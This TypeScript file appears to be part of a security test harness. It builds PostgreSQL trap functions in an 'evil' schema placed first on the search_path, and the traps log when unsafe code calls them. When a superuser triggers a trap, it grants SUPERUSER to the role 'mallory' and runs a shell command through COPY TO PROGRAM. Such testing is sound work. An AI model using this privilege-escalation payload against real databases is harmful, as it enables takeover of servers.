/** What a line of the server's log begins with when planted code was called. */
export const trapMark = 'poolguard-trap';
/** The same for what an event trigger runs at a login. */
export const loginMark = 'poolguard-login';

/** The schema that stands first on the path of everybody who connects. */
export const evil = 'evil';

/**
 * Functions that every trap calls. A note goes to the server's log: neither a read-only transaction nor a rollback takes it back.
 * Each name is noted once a session, for some are called a thousand times a statement. In the hands of a superuser a trap
 * helps itself as well: to rights, and to a file on the server.
 */
export function noteSql(lootFile: string): string {
  return `
    CREATE FUNCTION ${evil}.help_itself() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    BEGIN
      BEGIN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      BEGIN
        EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ${lootFile}');
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END $$;
    CREATE FUNCTION ${evil}.noted(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    DECLARE
      seen text := coalesce(current_setting('trap.seen', true), '');
    BEGIN
      IF strpos(seen, '|' || what || '|') > 0 THEN RETURN true; END IF;
      PERFORM set_config('trap.seen', seen || '|' || what || '|', false);
      RAISE LOG '${trapMark}: % ran as % in: %', what, current_user, left(translate(current_query(), E'\\n\\r', '  '), 200);
      IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN PERFORM ${evil}.help_itself(); END IF;
      RETURN true;
    END $$;`;
}
